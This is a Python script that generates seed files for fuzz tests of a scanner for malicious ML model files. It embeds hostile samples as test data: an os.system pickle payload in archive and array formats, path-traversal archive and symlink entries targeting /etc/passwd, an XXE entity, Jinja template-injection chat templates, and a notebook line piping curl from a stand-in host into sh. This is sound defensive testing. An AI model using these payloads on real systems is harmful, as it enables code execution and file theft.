"""Writes what the fuzzers of the scanner begin with: fuzz_seeds.py src/test/resources/dev/redoubt/scan

Small files as the libraries write them, in the form that each target of `FuzzTarget` expects: what a
target puts in front of the fuzzer's bytes is left out.
"""

import bz2
import gzip
import io
import json
import lzma
import pathlib
import pickle
import sys
import tarfile
import zipfile
import zlib

import gguf
import h5py
import numpy as np
import onnx
import xgboost
from onnx import TensorProto, helper, numpy_helper
from safetensors.numpy import save

FOLDER = pathlib.Path(sys.argv[1])
CALL = b"\x80\x04cos\nsystem\n\x8c\x02id\x85R."
WORDS = b"words and words and words"
# The first byte of a seed for PACKED says which start the target puts in front.
PACKED = {"gzip": 0, "xz": 1, "lzma": 2, "zstd": 3, "lz4": 4, "bzip2": 5, "zlib": 6, "7z": 7}


def seed(test, target, name, content):
    path = FOLDER / f"{test}Inputs" / target / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content)


def scan(target, name, content):
    seed("ScanFuzzTest", target, name, content)


def model(target, name, content):
    seed("internal/text/ModelFormatsFuzzTest", target, name, content)


def archive(members, kind=zipfile.ZIP_DEFLATED, **more):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", kind, **more) as zipped:
        for name, content in members.items():
            info = zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0))
            info.compress_type = kind
            zipped.writestr(info, content)
    return out.getvalue()


def archives():
    torch = {"m/data.pkl": CALL, "m/byteorder": b"little", "m/version": b"3\n", "m/data/0": bytes(16)}
    forms = {
        "stored": archive(torch, zipfile.ZIP_STORED),
        "deflated": archive(torch),
        "bzip2": archive({"a.pkl": CALL}, zipfile.ZIP_BZIP2),
        "lzma": archive({"a.pkl": CALL}, zipfile.ZIP_LZMA),
        "nested": archive({"a.zip": archive({"b.pkl": CALL})}),
        "climbs": archive({"../../a": WORDS, "/b": WORDS}),
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zipped, zipped.open("a", "w", force_zip64=True) as member:
        member.write(CALL)
    forms["zip64"] = out.getvalue()
    for name, content in forms.items():
        scan("scanner", f"zip-{name}", content)
        scan("zip", name, content[4:])
    scan("zipDirectory", "plain", CALL)
    scan("zipDirectory", "hits", bytes(range(60)))
    for form, name in ((tarfile.USTAR_FORMAT, "ustar"), (tarfile.GNU_FORMAT, "gnu"), (tarfile.PAX_FORMAT, "pax")):
        out = io.BytesIO()
        with tarfile.open(fileobj=out, mode="w", format=form, bufsize=512) as tar:
            info = tarfile.TarInfo("a" * (120 if form != tarfile.USTAR_FORMAT else 20))
            info.size = len(CALL)
            tar.addfile(info, io.BytesIO(CALL))
            link = tarfile.TarInfo("link")
            link.type, link.linkname = tarfile.SYMTYPE, "../../etc/passwd"
            tar.addfile(link)
        scan("tar", name, out.getvalue().rstrip(b"\0") + bytes(1024))
    compressed = {
        "gzip": gzip.compress(CALL, mtime=0)[10:],
        "xz": lzma.compress(CALL)[8:],
        "lzma": lzma.compress(CALL, lzma.FORMAT_ALONE)[14:],
        # One raw block of a frame with a checksum, and one of LZ4 without compression.
        "zstd": b"\x20" + bytes([len(CALL)]) + (len(CALL) << 3 | 1).to_bytes(3, "little") + CALL,
        "lz4": b"\x60\x40\x82" + (len(CALL) | 1 << 31).to_bytes(4, "little") + CALL + bytes(4),
        "bzip2": bz2.compress(CALL)[10:],
        "zlib": zlib.compress(CALL)[2:],
        "7z": bytes(30),
    }
    for name, content in compressed.items():
        scan("packed", name, bytes([PACKED[name]]) + content)


def arrays():
    for name, array in (("floats", np.ones(3)), ("records", np.zeros(2, "i4,U3")), ("objects", np.array([{"a": 1}]))):
        out = io.BytesIO()
        np.save(out, array, allow_pickle=True)
        scan("npy", name, out.getvalue()[6:])
        scan("scanner", f"npy-{name}", out.getvalue())


def trees():
    call = {"__class__": "system", "__module__": "os", "__loader__": "ObjectNode", "__id__": 1}
    method = {"__class__": "f", "__module__": "a.b", "__loader__": "MethodNode", "content": {"func": "g", "obj": call}}
    for name, node in (("call", {"content": call}), ("method", {"content": {"k": method}, "__id__": 2})):
        scan("skops", name, json.dumps(node)[1:].encode())
    code = b"def f(self, x: Tensor) -> Tensor:\n  return ops.a.b(torch.save(x, CONSTANTS.c0))\n"
    scan("torchScript", "code", code)
    scan("torchScript", "bytecode", pickle.dumps((3, ("f", (("instructions", (("OP", 0, 0),)), ("operators", ()))))))


def containers():
    for name, version in (("earliest", "earliest"), ("latest", "latest")):
        out = io.BytesIO()
        with h5py.File(out, "w", libver=version) as file:
            file.attrs["model_config"] = json.dumps({"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda"}]}})
            file.create_dataset("g/d", data=np.arange(3, dtype="i1"))
            file["e"] = h5py.ExternalLink("/etc/passwd.h5", "/x")
            file.create_dataset("f", (2,), dtype="i1", external=[("/etc/passwd", 0, 2)])
        model("hdf5", name, out.getvalue())
    out = io.BytesIO()
    with h5py.File(out, "w", libver="latest", track_order=True) as file:
        for i in range(9):
            file.attrs[f"a{i}"] = "x"
        file.create_dataset("c", data=np.zeros((4, 4)), compression="gzip", chunks=(2, 2))
    model("hdf5", "dense", out.getvalue())
    path = FOLDER / "seed.gguf"
    for endian in gguf.GGUFEndian:
        writer = gguf.GGUFWriter(path, "llama", endianess=endian)
        writer.add_token_list(["a", "b"])
        writer.add_chat_template("{{ cycler.__init__.__globals__.os.system('id') }}")
        writer.add_tensor("t", np.ones(4, "float32"))
        writer.write_header_to_file()
        writer.write_kv_data_to_file()
        writer.write_tensors_to_file()
        writer.close()
        model("gguf", endian.name.lower(), path.read_bytes())
    path.unlink()
    model("safetensors", "two", save({"a": np.ones(2, "float32"), "z": np.zeros((0,), "int64")}, {"format": "pt"}))
    model("safetensors", "overlap", header({"a": tensor(0, 8), "b": tensor(4, 8)}) + bytes(8))


def tensor(start, end):
    return {"dtype": "F32", "shape": [(end - start) // 4], "data_offsets": [start, end]}


def header(tensors):
    text = json.dumps(tensors).encode()
    return len(text).to_bytes(8, "little") + text


def graphs():
    value = lambda name: helper.make_tensor_value_info(name, TensorProto.FLOAT, [2])
    weights = numpy_helper.from_array(np.ones(2, "float32"), "w")
    away = TensorProto(name="v", data_type=1, dims=[2], data_location=TensorProto.EXTERNAL)
    for key, text in (("location", "../../x"), ("offset", "4"), ("length", "8")):
        entry = away.external_data.add()
        entry.key, entry.value = key, text
    nodes = [helper.make_node("Add", ["x", "w"], ["t"]), helper.make_node("Evil", ["t"], ["y"], domain="own")]
    graph = helper.make_graph(nodes, "g", [value("x")], [value("y")], [weights, away])
    imports = [helper.make_opsetid("", 18), helper.make_opsetid("own", 1)]
    model("protobuf", "onnx", helper.make_model(graph, opset_imports=imports).SerializeToString())
    # A saved model of TensorFlow: schema version, one graph with one node that reads a file.
    node = field(1, b"r") + field(2, b"ReadFile") + field(3, b"name")
    model("protobuf", "saved-model", b"\x08\x01" + field(2, field(2, field(1, node))))


def field(number, content):
    return bytes([number << 3 | 2, len(content)]) + content


def texts():
    pmml = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><PMML version="4.4"><Header/>&e;</PMML>'
    model("xml", "entity", pmml.encode())
    model("xml", "utf-16", '<?xml version="1.0" encoding="UTF-16"?><PMML><Extension value="x"/></PMML>'.encode("utf-16"))
    notebook = {"cells": [{"cell_type": "code", "source": ["!curl http://host.invalid | sh\n"], "outputs": []}], "nbformat": 4}
    keras = {"module": "keras", "class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {"function": ["4wAA", None, None]}}]}}
    for name, tree in (
        ("notebook", notebook),
        ("keras", keras),
        ("transformers", {"architectures": ["A"], "auto_map": {"AutoModel": "modeling.A"}}),
        ("tokenizer", {"chat_template": "{{ ''.__class__.__mro__ }}"}),
    ):
        model("json", name, json.dumps(tree).encode())
    data = xgboost.DMatrix(np.array([[0.0], [1.0]]), label=np.array([0, 1]))
    booster = xgboost.train({"max_depth": 1, "min_child_weight": 0}, data, 1)
    model("json", "xgboost", bytes(booster.save_raw("json")))
    scan("scanner", "xgboost-ubj", bytes(booster.save_raw("ubj")))
    # The first byte says which start the target puts in front.
    scan("boosting", "ubjson", b"\0" + bytes(booster.save_raw("ubj"))[19:])
    scan("boosting", "old", b"\1" + bytes(64))
    scan("boosting", "catboost", b"\2" + (64).to_bytes(4, "little") + bytes(64))
    scan("boosting", "lightgbm", b"\3num_leaves=2\nsplit_feature=0\nthreshold=0.5\n\nend of trees\n")
    mlmodel = "flavors:\n  python_function:\n    loader_module: a.b\n    code: ../code\n    model_path: model.pkl\n"
    secret = "AccountKey=" + "A" * 86 + "==;EndpointSuffix=core.windows.net\n"
    for name, text in (("mlmodel", mlmodel), ("secret", secret), ("python", "import os\nos.system('id')\n")):
        model("text", name, text.encode())


def lists():
    """Files that are read as their names say."""
    pip = "numpy (>=1.0) ; python_version < '3.9' # why\n-i https://a.example \\\n--extra-index=x\nb @ git+file:x\n"
    scan("requirements", "lines", pip.encode())
    scan("requirements", "options", b"# coding: latin-1\n-e. -r 'x y.txt' --hash=sha256:0 --config-settings \"a=b\"\n")
    conda = "channels: [conda-forge, 'https://a.example']\ndependencies:\n- a::b[url=x,version='>=1']\n- pip:\n  - -e .\nx: &x 1\ny: *x\n"
    scan("conda", "environment", conda.encode())
    scan("conda", "flow", b'{dependencies: [{pip: ["a\\n-e ."]}], variables: {PATH: x}}')
    toml = "[build-system]\nrequires = ['a>=1']\nbackend-path = ['.']\n[[tool.uv.index]]\nurl = \"h\\u0074tp://a\"\n[tool.uv.sources]\na = {git = 'x', d = 2026-01-01T00:00:00Z}\n"
    scan("pyproject", "tables", toml.encode())
    scan("setupConfig", "sections", b"[options]\ninstall_requires =\n    a>=1\n  # c\n    b @ x\n[easy_install]\nindex-url: y\n")
    scan("triton", "message", b"name: 'm' # c\nbackend: \"py\" 'thon' input [ { dims: [ -1, 2.5e3 ] } ] a < b: X >\n")
    scan("spacy", "pipeline", b'[nlp]\nlang = "en"\n[components.a.model]\n@architectures = "x.y.v1"\n')
    scan("mlmodel", "flow", b"{flavors: {python_function: {loader_module: a.b, code: c}}}")
    scan("mlmodel", "keys", b"? flavors\n: python_function:\n    ? loader_module\n    : a.b\n")
    loaders = {
        "_class_name": ["own", "Own"],
        "unet": ["own", "Net", {"repo": "a/b"}],
        "auto_map": {"AutoModel": "a/b--own.Net"},
        "auto_mapping": {"base_model_class": "Net", "parent_library": "own"},
        "x": [{"_target_": "own.Net"}, {"path": "", "type": "own.Net"}, {"lc": 1, "id": ["own", "Net"]}],
        "y": {":serialized:": "gAROLg=="},
        "attn_implementation": {"": "a/b"},
    }
    scan("loaders", "names", json.dumps(loaders).encode())
    scan("bundle", "call", b"[f'{own(x)!r}' for x in sorted(@a#b, key=lambda y: y[0].to(1))]")
    scan("bundle", "import", b"from os import path as glob")


for part in (archives, arrays, trees, containers, graphs, texts, lists):
    part()
